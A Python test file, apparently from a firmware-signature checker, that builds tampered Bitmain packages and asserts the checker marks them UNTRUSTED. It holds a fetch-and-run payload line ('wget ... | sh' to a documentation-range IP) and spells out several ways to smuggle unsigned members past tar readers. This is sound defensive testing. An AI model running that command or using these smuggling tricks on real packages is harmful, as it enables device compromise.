"""Content a signed package hides from a reader that stops early: each is a finding, never TRUSTED.

The packages here are the kit's genuine Bitmain package (signatures made with openssl), changed
the way an attacker without the vendor's keys can change it: by adding bytes around the signed
members. GNU tar (the real ``tar``, as an installer runs it) is the reference for what gets
unpacked.
"""

from __future__ import annotations

import gzip
import io
import subprocess
import tarfile
from pathlib import Path

import pytest

from attest.appraise import Appraisal
from attest.image.appraise_image import check_file
from attest.image.walk import inspect_file
from attest.manifest import Manifest
from attest.trust import TrustStore
from attest.verdict import Verdict
from tests.image.conftest import Kit

EVIL = b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n"


def signed_tar(kit: Kit) -> bytes:
    """The genuine package's tar, without its end-of-archive zero blocks."""
    raw = gzip.decompress(kit["genuine"].read_bytes())
    end = len(raw)
    while end >= 512 and not raw[end - 512:end].strip(b"\0"):
        end -= 512
    return raw[:end]


def member(name: str, data: bytes) -> bytes:
    """One tar member (header and padded data), as GNU tar writes it."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), 0o755
        tf.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    end = len(raw)
    while not raw[end - 512:end].strip(b"\0"):
        end -= 512
    return raw[:end]


END = b"\0" * 10240  # two zero blocks and the rest of a 10 KiB record, as tar ends an archive
JUNK = bytes(range(256)) * 2  # one 512-byte block that is no tar header (its checksum is wrong)


def package(tmp_path: Path, name: str, tar_bytes: bytes) -> Path:
    out = tmp_path / name
    out.write_bytes(gzip.compress(tar_bytes, mtime=0))
    return out


def gnu_tar_list(path: Path, *options: str) -> list[str]:
    """What GNU tar would unpack (``-t`` lists exactly the members ``-x`` writes)."""
    done = subprocess.run(["tar", *options, "-tzf", str(path)], capture_output=True, check=False)
    return done.stdout.decode().split()


def check(path: Path, trust: TrustStore, manifest: Manifest) -> Appraisal:
    return check_file(str(path), trust, [manifest])


def findings(a: Appraisal, code: str) -> list[str]:
    return [r.detail for r in a.reasons if r.code == code]


def test_a_second_runme_after_a_junk_block_is_untrusted(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                        tmp_path: Path) -> None:
    """The issue's case: GNU tar skips the junk block and unpacks the unsigned runme.sh over the
    signed one; tarfile alone stopped at the junk and called the package TRUSTED."""
    path = package(tmp_path, "hidden.tar.gz", signed_tar(kit) + JUNK + member("runme.sh", EVIL) + END)
    assert gnu_tar_list(path).count("runme.sh") == 2  # the installer does write it
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [hidden] = [d for d in findings(a, "FIRMWARE_UNSIGNED_CONTENT") if "follows bytes that are not a tar header" in d]
    assert hidden.startswith("runme.sh: member runme.sh (")
    assert "GNU tar skips them and unpacks this member" in hidden
    assert any("not a tar header" in d for d in findings(a, "FIRMWARE_UNSIGNED_DATA"))  # the junk, named
    assert any("wget" in d for d in findings(a, "IMAGE_FETCH_AND_RUN"))  # and the hidden script is audited


def test_a_member_after_the_end_marker_is_untrusted(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                    tmp_path: Path) -> None:
    path = package(tmp_path, "after-end.tar.gz", signed_tar(kit) + END + member("runme.sh", EVIL) + END)
    assert gnu_tar_list(path, "-i").count("runme.sh") == 2  # tar --ignore-zeros unpacks it
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    assert any("after the archive's end marker: tar -i" in d for d in findings(a, "FIRMWARE_UNSIGNED_CONTENT"))


def test_trailing_bytes_after_the_archive_are_named(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                    tmp_path: Path) -> None:
    path = package(tmp_path, "trailing.tar.gz", signed_tar(kit) + END + b"settings v2: fan=auto\n" * 4)
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.WARNING  # no code in them: a warning that names the bytes
    [detail] = findings(a, "FIRMWARE_UNSIGNED_DATA")
    assert "after the last member, after the archive's end marker" in detail and "settings v2" in detail
    script = package(tmp_path, "trailing-script.tar.gz", signed_tar(kit) + END + EVIL)
    b = check(script, trust, manifest)
    assert b.verdict is Verdict.UNTRUSTED
    assert any("shell command line" in d or "a script" in d for d in findings(b, "FIRMWARE_UNSIGNED_CONTENT"))


@pytest.mark.parametrize("order", ["evil-last", "evil-first"])
def test_a_name_given_twice_is_untrusted_whichever_copy_is_signed(kit: Kit, trust: TrustStore,
                                                                   manifest: Manifest, tmp_path: Path,
                                                                   order: str) -> None:
    evil = member("runme.sh", EVIL)
    body = signed_tar(kit) + evil if order == "evil-last" else evil + signed_tar(kit)
    path = package(tmp_path, f"{order}.tar.gz", body + END)
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    assert "IMAGE_UNSAFE_MEMBER" in [r.code for r in a.reasons]
    shadowed = [d for d in findings(a, "FIRMWARE_UNSIGNED_CONTENT") if "a copy of a name given again later" in d]
    assert len(shadowed) == 1


def test_a_version_number_that_is_not_a_line_of_text_is_unsigned_content(kit: Kit, trust: TrustStore,
                                                                         manifest: Manifest, tmp_path: Path) -> None:
    raw = gzip.decompress(kit["genuine"].read_bytes())
    with tarfile.open(fileobj=io.BytesIO(raw)) as tf:
        names = tf.getnames()
    assert "version_number" in names
    stage = tmp_path / "stage"
    with tarfile.open(fileobj=io.BytesIO(raw)) as tf:
        tf.extractall(stage, filter="data")
    (stage / "version_number").write_bytes(EVIL)
    out = tmp_path / "meta.tar"
    subprocess.run(["tar", "--format=gnu", "-cf", str(out), *names], cwd=stage, check=True)
    a = check(package(tmp_path, "meta.tar.gz", out.read_bytes()), trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    assert any(d.startswith("version_number") for d in findings(a, "FIRMWARE_UNSIGNED_CONTENT"))


def test_gnu_tar_and_the_reader_agree_on_every_trusted_package(kit: Kit, trust: TrustStore,
                                                               manifest: Manifest, tmp_path: Path) -> None:
    """Every tar the kit's TRUSTED files hold (the package and the fw.tar.gz inside it) lists the
    same members under GNU tar (default and --ignore-zeros) as in our inspection;
    tests/image/test_mutations.py does the same for every damaged copy that stays TRUSTED."""
    assert check(kit["genuine"], trust, manifest).verdict is Verdict.TRUSTED
    assert_tar_members_agree(kit["genuine"])
    with tarfile.open(kit["genuine"]) as tf:
        handle = tf.extractfile("fw.tar.gz")
        assert handle is not None
        (tmp_path / "fw.tar.gz").write_bytes(handle.read())
    assert_tar_members_agree(tmp_path / "fw.tar.gz")


def assert_tar_members_agree(path: Path) -> None:
    """Our member list of the file (when it is a gzip'd tar) equals GNU tar's, with and without -i."""
    inspection = inspect_file(path)
    tar_node = next((n for n in inspection.nodes() if n.format == "tar"), None)
    if tar_node is None:
        return
    ours = [c.name for c in tar_node.children]
    assert gnu_tar_list(path) == ours
    assert gnu_tar_list(path, "-i") == ours


def test_a_script_after_a_megabyte_of_erased_flash_behind_the_gzip_is_found(
        kit: Kit, trust: TrustStore, manifest: Manifest, tmp_path: Path) -> None:
    """Bytes after the compressed package: only the first megabyte used to be looked at, so a
    script behind 1 MiB of 0xFF passed for flash padding and the package stayed TRUSTED."""
    path = tmp_path / "padded.tar.gz"
    path.write_bytes(kit["genuine"].read_bytes() + b"\xff" * (1 << 20) + EVIL)
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = findings(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith("the file (trailing data): ") and "bytes after the gzip stream" in detail
    assert "a script (#!/bin/sh)" in detail
